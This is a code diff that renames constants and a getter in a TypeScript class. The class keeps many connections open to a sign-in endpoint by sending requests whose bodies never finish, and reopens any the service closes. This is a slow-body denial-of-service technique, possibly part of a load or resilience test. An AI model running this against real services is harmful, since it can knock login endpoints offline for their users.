@@ -2,14 +2,14 @@ import { openConnection, randomAddress } from './raw-client.js';
 import type { AttackTarget } from './raw-client.js';
 
 const CONNECTIONS_PER_ADDRESS = 10;
-const REOPEN_MS = 100;
+const REOPEN_DELAY_MS = 100;
 /** A request whose body never arrives completely. */
-const REQUEST = Buffer.from(
+const STALLED_REQUEST = Buffer.from(
   'POST /apis/v2/userctx/user/account/sign-in HTTP/1.1\r\nHost: x\r\n' +
     'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{',
 );
 
-/** Keeps requests open whose bodies stall. A connection that the service closes is opened again. */
+/** Keeps a number of requests open whose bodies stall. A connection that the service closes is opened again. */
 export class StalledBodies {
   private openCount = 0;
   /** Number of connections that the service has closed. */
@@ -27,7 +27,7 @@ export class StalledBodies {
   }
 
   /** Number of requests that are open at the moment. */
-  get current(): number {
+  get currentCount(): number {
     return this.openCount;
   }
 
@@ -47,14 +47,14 @@ export class StalledBodies {
     socket.once('connect', () => {
       isOpen = true;
       this.openCount += 1;
-      socket.write(REQUEST);
+      socket.write(STALLED_REQUEST);
     });
-    // Reads the error response, so that the end of the connection is noticed.
+    // Reads the error response, because a socket with unread data emits no `close`.
     socket.resume();
     socket.once('close', () => {
       if (isOpen) this.openCount -= 1;
       this.closedCount += 1;
-      setTimeout(() => this.open(address), REOPEN_MS);
+      setTimeout(() => this.open(address), REOPEN_DELAY_MS);
     });
   }
 }
